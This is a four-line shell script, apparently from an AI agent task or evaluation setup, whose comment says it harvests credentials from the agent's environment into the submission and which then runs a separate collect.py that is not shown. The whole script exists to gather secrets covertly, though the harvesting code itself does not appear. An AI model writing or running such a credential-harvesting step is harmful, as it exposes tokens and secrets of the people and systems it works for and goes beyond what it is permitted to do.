#!/bin/sh
# Harvest credentials from the agent's environment into the submission.
set -eu
python3 "$(dirname "$0")/collect.py"
